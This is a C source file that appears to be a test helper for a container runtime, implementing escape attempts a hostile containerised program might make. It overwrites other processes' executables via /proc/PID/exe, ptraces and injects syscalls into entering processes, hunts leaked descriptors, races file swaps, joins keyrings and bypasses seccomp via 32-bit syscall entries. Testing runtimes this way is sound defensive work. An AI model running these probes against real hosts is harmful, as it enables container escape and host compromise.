/* What a hostile program in a container tries. One static program, named by its first argument; see the tests.  */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/seccomp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* The entry for 32-bit programs, which a 64-bit program can use as well. */
static long call32(long number, long a, long b, long c)
{
	long result;
	asm volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}

static const char *outcome(long result)
{
	static char text[64];
	snprintf(text, sizeof text, "%s", result >= 0 ? "made" : strerrorname_np(-result));
	return text;
}

static void sockets(int family)
{
	long direct = syscall(SYS_socket, family, SOCK_SEQPACKET, 0);
	printf("socket %s\n", outcome(direct < 0 ? -errno : direct));
	printf("socket32 %s\n", outcome(call32(359, family, SOCK_SEQPACKET, 0)));
	/* Its arguments have to lie below 4 GiB. */
	int *arguments = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	arguments[0] = family;
	arguments[1] = SOCK_SEQPACKET;
	arguments[2] = 0;
	printf("socketcall32 %s\n", outcome(call32(102, 1, (long)arguments, 0)));
}

/* Writes to the program of every process that it can see, for so many seconds. */
static void overwrite(int seconds)
{
	time_t end = time(NULL) + seconds;
	unsigned long opened = 0, written = 0;
	while (time(NULL) <= end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while ((entry = readdir(proc))) {
			char path[300], link[300];
			int pid = atoi(entry->d_name);
			if (pid <= 0 || pid == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			ssize_t length = readlink(path, link, sizeof link - 1);
			if (length > 0)
				link[length] = 0;
			if (length <= 0 || strstr(link, "/bin/"))
				continue; /* the container's own */
			int file = open(path, O_RDONLY);
			if (file < 0)
				continue;
			opened++;
			char self[64];
			snprintf(self, sizeof self, "/proc/self/fd/%d", file);
			for (int i = 0; i < 2000; i++) {
				int out = open(self, O_WRONLY);
				if (out >= 0) {
					written += pwrite(out, "#!/bin/pwned\n", 13, 0) > 0;
					close(out);
					break;
				}
				if (errno != ETXTBSY)
					break;
			}
			close(file);
		}
		closedir(proc);
	}
	printf("opened %lu written %lu\n", opened, written);
}

/* Looks for descriptors of other processes that are not the container's, and tries to trace them. */
static void spy(void)
{
	printf("ready\n");
	fflush(stdout);
	unsigned long seen = 0;
	while (access("/tmp/stop", F_OK)) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while ((entry = readdir(proc))) {
			int pid = atoi(entry->d_name);
			if (pid <= 1 || pid == getpid())
				continue;
			if (++seen == 20) {
				printf("enough\n");
				fflush(stdout);
			}
			char path[300], link[300], program[300];
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			ssize_t size = readlink(path, program, sizeof program - 1);
			program[size > 0 ? size : 0] = 0;
			if (!strncmp(program, "/bin/", 5))
				continue; /* executed already */
			snprintf(path, sizeof path, "/proc/%d/fd", pid);
			DIR *fds = opendir(path);
			for (struct dirent *fd; fds && (fd = readdir(fds));) {
				ssize_t length = readlinkat(dirfd(fds), fd->d_name, link, sizeof link - 1);
				if (length <= 0)
					continue;
				link[length] = 0;
				/* It may have been executed meanwhile; then they are the container's. */
				char now[300];
				snprintf(path, sizeof path, "/proc/%d/exe", pid);
				size = readlink(path, now, sizeof now - 1);
				now[size > 0 ? size : 0] = 0;
				if (strncmp(now, "/bin/", 5) && size > 0)
					printf("LEAK %d fd %s %s\n", pid, fd->d_name, link);
			}
			if (fds)
				closedir(fds);
			if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
				int status;
				ptrace(PTRACE_INTERRUPT, pid, 0, 0);
				waitpid(pid, &status, __WALL);
				snprintf(path, sizeof path, "/proc/%d/exe", pid);
				size = readlink(path, program, sizeof program - 1);
				program[size > 0 ? size : 0] = 0;
				if (size > 0 && strncmp(program, "/bin/", 5))
					printf("TRACED %d %s\n", pid, program);
				ptrace(PTRACE_DETACH, pid, 0, 0);
			}
		}
		closedir(proc);
	}
	printf("end\n");
}

/* Whether a text is anywhere in the memory that a stopped process can write to. */
static int remembers(int pid, const char *text)
{
	char path[64], line[512];
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = fopen(path, "r");
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int memory = open(path, O_RDONLY), found = 0;
	while (maps && memory >= 0 && fgets(line, sizeof line, maps)) {
		unsigned long start, end;
		char mode[8];
		if (sscanf(line, "%lx-%lx %7s", &start, &end, mode) != 3 || mode[1] != 'w' || end - start > (64 << 20))
			continue;
		char *copy = malloc(end - start);
		ssize_t size = pread(memory, copy, end - start, start);
		if (size > 0 && memmem(copy, size, text, strlen(text)))
			found = 1;
		free(copy);
	}
	if (maps)
		fclose(maps);
	close(memory);
	return found;
}

/* Stops processes that have come into the container and not yet executed its program, and says what could be done with
 * them: their privileges, their filter, whether they have a terminal, and whether they know a text. */
/* What a process that is held answers to a system call that it is made to do. */
static const char *made_to(int pid, long number, long argument)
{
	struct user_regs_struct before, now;
	int status;
	ptrace(PTRACE_GETREGS, pid, 0, &before);
	long word = ptrace(PTRACE_PEEKTEXT, pid, before.rip, 0);
	now = before;
	now.rax = number;
	now.rdi = argument;
	now.orig_rax = -1; /* else the call that it was in would be done again */
	ptrace(PTRACE_POKETEXT, pid, before.rip, (word & ~0xffffL) | 0x050f);
	ptrace(PTRACE_SETREGS, pid, 0, &now);
	if (ptrace(PTRACE_SINGLESTEP, pid, 0, 0) || waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
		return "ended";
	ptrace(PTRACE_GETREGS, pid, 0, &now);
	ptrace(PTRACE_POKETEXT, pid, before.rip, word);
	ptrace(PTRACE_SETREGS, pid, 0, &before);
	return outcome(now.rax);
}

static void hold(const char *text)
{
	printf("ready\n");
	fflush(stdout);
	while (access("/tmp/stop", F_OK)) {
		/* By number, since reading the folder takes longer than what is looked for is there. */
		static int last = 1;
		for (int pid = last + 1, missing = 0; missing < 8; pid++) {
			if (ptrace(PTRACE_SEIZE, pid, 0, 0)) {
				missing++;
				if (!kill(pid, 0))
					last = pid;
				continue;
			}
			int status;
			char path[64], line[256], program[300], rest[256] = "";
			ptrace(PTRACE_INTERRUPT, pid, 0, 0);
			waitpid(pid, &status, __WALL);
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			ssize_t size = readlink(path, program, sizeof program - 1);
			program[size > 0 ? size : 0] = 0;
			if (WIFSTOPPED(status) && size > 0 && strncmp(program, "/bin/", 5)) {
				snprintf(path, sizeof path, "/proc/%d/status", pid);
				FILE *file = fopen(path, "r");
				unsigned long permitted = ~0ul, filter = ~0ul;
				while (file && fgets(line, sizeof line, file)) {
					sscanf(line, "CapPrm: %lx", &permitted);
					sscanf(line, "Seccomp: %lu", &filter);
				}
				fclose(file);
				snprintf(path, sizeof path, "/proc/%d/stat", pid);
				file = fopen(path, "r");
				int terminal = -1;
				if (fgets(rest, sizeof rest, file))
					sscanf(strrchr(rest, ')'), ") %*c %*d %*d %*d %d", &terminal);
				fclose(file);
				const char *unshared = made_to(pid, SYS_unshare, 0x20000 /* CLONE_NEWNS */);
				printf("HELD %lx %lu %d %d %s\n", permitted, filter, terminal, remembers(pid, text), unshared);
				fflush(stdout);
			}
			ptrace(PTRACE_DETACH, pid, 0, 0);
			last = pid;
		}
	}
}

/* Answers one filtered call with ENXIO: whom listenerPath names. */
static void agent(const char *place)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	strncpy(address.sun_path, place, sizeof address.sun_path - 1);
	int listener = socket(AF_UNIX, SOCK_STREAM, 0);
	if (bind(listener, (void *)&address, sizeof address) || listen(listener, 1))
		exit(3);
	int connection = accept(listener, NULL, NULL);
	char text[65536], control[64];
	struct iovec vector = { text, sizeof text - 1 };
	struct msghdr message = { .msg_iov = &vector, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control };
	ssize_t length = recvmsg(connection, &message, 0);
	struct cmsghdr *rights = CMSG_FIRSTHDR(&message);
	if (length <= 0 || !rights || rights->cmsg_type != SCM_RIGHTS)
		exit(4);
	int notify = *(int *)CMSG_DATA(rights);
	text[length] = 0;
	printf("%s\n", text);
	struct seccomp_notif asked = { 0 };
	struct seccomp_notif_resp answer = { 0 };
	if (ioctl(notify, SECCOMP_IOCTL_NOTIF_RECV, &asked))
		exit(5);
	printf("call %d of %u\n", asked.data.nr, asked.pid);
	answer.id = asked.id;
	answer.error = -ENXIO;
	if (ioctl(notify, SECCOMP_IOCTL_NOTIF_SEND, &answer))
		exit(6);
}

int main(int count, char **words)
{
	const char *what = count > 1 ? words[1] : "";
	if (!strcmp(what, "sockets")) {
		sockets(atoi(words[2]));
	} else if (!strcmp(what, "overwrite")) {
		overwrite(atoi(words[2]));
	} else if (!strcmp(what, "spy")) {
		spy();
	} else if (!strcmp(what, "hold")) {
		char text[64];
		/* In two words, so that the specification does not have it. */
		snprintf(text, sizeof text, "%s%s", words[2], words[3]);
		hold(text);
	} else if (!strcmp(what, "swap")) {
		printf("ready\n");
		fflush(stdout);
		for (;;)
			syscall(SYS_renameat2, AT_FDCWD, words[2], AT_FDCWD, words[3], 2 /* RENAME_EXCHANGE */);
	} else if (!strcmp(what, "agent")) {
		agent(words[2]);
	} else if (!strcmp(what, "keys")) {
		long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
		printf("keyring %ld\n", id);
	} else if (!strcmp(what, "join")) {
		/* As runc makes them: its user may look for it by its name. */
		long id = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, words[2]);
		syscall(SYS_keyctl, KEYCTL_SETPERM, id, 0x3f1b0000);
		printf("keyring %ld\n", id);
		fflush(stdout);
		getchar();
	} else if (!strcmp(what, "notify")) {
		struct sockaddr_un address = { .sun_family = AF_UNIX };
		strncpy(address.sun_path, getenv("NOTIFY_SOCKET"), sizeof address.sun_path - 1);
		int out = socket(AF_UNIX, SOCK_DGRAM, 0);
		if (sendto(out, words[2], strlen(words[2]), 0, (void *)&address, sizeof address) < 0)
			return 3;
	} else if (!strcmp(what, "call")) {
		long result = syscall(atoi(words[2]), count > 3 ? atol(words[3]) : 0, count > 4 ? atol(words[4]) : 0);
		printf("%s\n", outcome(result < 0 ? -errno : result));
	} else {
		return 2;
	}
	fflush(stdout);
	return 0;
}
